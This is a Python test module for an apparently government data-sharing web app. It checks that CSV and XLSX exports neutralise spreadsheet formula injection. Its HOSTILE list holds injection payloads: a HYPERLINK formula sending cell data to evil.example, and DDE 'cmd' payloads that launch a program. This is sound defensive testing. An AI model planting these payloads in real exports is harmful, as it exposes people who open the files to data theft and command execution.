"""Formula injection: every CSV/XLSX export neutralises cells starting with ``= + - @`` (DESIGN.md §4
"Interfaces"). A hostile value is planted where a user can type it (a resource name and summary, an
information-system name, a record value), then every export that can carry it is read back cell by cell."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal, InvalidOperation
from typing import Any

import openpyxl
import pytest

from govshare import testing
from govshare.accounts.choices import Role
from govshare.catalog.services import ItemSpec
from govshare.conftest import client_for
from govshare.core.identifiers import make_resident_id
from govshare.exchange.tests.test_dataplane_world import (  # noqa: F401 - fixtures
    World,
    _fresh_dataplane,
    world_fixture,
)
from govshare.registry.services import create_system

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
           "-2+3+cmd|' /C calc'!A0"]


def _dangerous(cell: Any) -> bool:
    if not isinstance(cell, str) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        Decimal(cell)
        return False  # a plain negative number
    except InvalidOperation:
        return True


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return [c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row]


def _content(resp: Any) -> bytes:
    return b"".join(resp.streaming_content) if getattr(resp, "streaming", False) else bytes(resp.content)


def _assert_neutralised(cells: list[Any], planted: list[str]) -> None:
    bad = [c for c in cells if _dangerous(c)]
    assert not bad, f"formula cells left as is: {bad[:5]}"
    text = [str(c) for c in cells if c is not None]
    for value in planted:
        assert any(c.startswith("'" + value) for c in text), f"{value!r} not exported (neutralised) at all"


@pytest.fixture
def hostile_catalog(seeded: None, provider_dept: Any, data_office: Any) -> list[str]:
    testing.resource(provider_dept, name=HOSTILE[0], summary=HOSTILE[1], publish_by=data_office)
    testing.resource(provider_dept, name=HOSTILE[2], summary=HOSTILE[3], publish_by=data_office)
    return [HOSTILE[0], HOSTILE[2]]


def test_catalog_export_xlsx(hostile_catalog: list[str], data_office: Any) -> None:
    resp = client_for(data_office).get("/api/v1/catalog/export.xlsx")
    assert resp.status_code == 200
    _assert_neutralised(_xlsx_cells(_content(resp)), [*hostile_catalog, HOSTILE[1], HOSTILE[3]])


def test_catalog_export_csv(hostile_catalog: list[str], data_office: Any) -> None:
    resp = client_for(data_office).get("/api/v1/catalog/export.csv")
    assert resp.status_code == 200
    data = _content(resp)
    if data[:2] == b"PK":  # the resources CSV and its _items.csv companion, zipped
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            cells = [c for n in zf.namelist() for c in _csv_cells(zf.read(n))]
    else:
        cells = _csv_cells(data)
    _assert_neutralised(cells, [*hostile_catalog, HOSTILE[1], HOSTILE[3]])


def test_catalog_search_csv(hostile_catalog: list[str], consumer: Any) -> None:
    resp = client_for(consumer).get("/api/v1/catalog/search.csv")
    assert resp.status_code == 200
    _assert_neutralised(_csv_cells(_content(resp)), hostile_catalog)


def test_portal_list_exports(hostile_catalog: list[str], provider: Any, provider_dept: Any) -> None:
    # portal.pages.listing: my resources (provider) and the information systems (dept admin).
    resp = client_for(provider).get("/catalog/mine/?format=csv")
    assert resp.status_code == 200, resp.content[:300]
    _assert_neutralised(_csv_cells(_content(resp)), hostile_catalog)
    admin = testing.user(Role.DEPT_ADMIN, dept=provider_dept)
    create_system(actor=admin, department=provider_dept, name=HOSTILE[0])
    resp = client_for(admin).get("/systems/?format=csv")
    assert resp.status_code == 200, resp.content[:300]
    _assert_neutralised(_csv_cells(_content(resp)), [HOSTILE[0]])


def test_audit_export_csv(city: Any, provider_dept: Any) -> None:
    admin = testing.user(Role.DEPT_ADMIN, dept=provider_dept)
    create_system(actor=admin, department=provider_dept, name=HOSTILE[2])
    auditor = testing.user(Role.AUDIT_ADMIN, at=city)
    resp = client_for(auditor).get("/api/v1/audit/events.csv")
    assert resp.status_code == 200, resp.content[:300]
    cells = _csv_cells(_content(resp))
    assert any(HOSTILE[2] in c for c in cells)  # the name is in the export …
    _assert_neutralised(cells, [])  # … and no cell starts like a formula


@pytest.fixture
def hostile_file_grant(world: World) -> World:
    items = [ItemSpec(name="公民身份号码", element_code="DE0001", is_key=True),
             ItemSpec(name="姓名", element_code="DE0002", required=True)]
    rows = [{"id_number": make_resident_id("445102", dt.date(1981, 1, n + 1), 1), "person_name": v}
            for n, v in enumerate(HOSTILE)]
    world.resource = world.make_resource("公式注入测试", items, rows)
    world.grant = world.make_grant(world.resource, {"id_number": "plain", "person_name": "plain"})
    return world


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_dataplane_file_download(fmt: str, hostile_file_grant: World) -> None:
    from govshare.exchange.watermark import strip

    w = hostile_file_grant
    f = w.client().file(w.code, fmt)
    cells = _csv_cells(f.content) if fmt == "csv" else _xlsx_cells(f.content)
    cells = [strip(c) if isinstance(c, str) else c for c in cells]  # the invisible per-grant watermark
    _assert_neutralised(cells, HOSTILE)


def test_quality_dispute_export_csv(world: World) -> None:
    from govshare.datasets.models import Dataset
    from govshare.quality.services.disputes import raise_dispute

    dataset = Dataset.objects.get(resource=world.resource)
    raise_dispute(actor=world.consumer, dataset=dataset, record_key=world.inside[0]["id_number"], reason=HOSTILE[0])
    resp = client_for(world.consumer).get("/api/v1/quality/disputes.csv?box=mine")
    assert resp.status_code == 200, resp.content[:300]
    _assert_neutralised(_csv_cells(_content(resp)), [HOSTILE[0]])
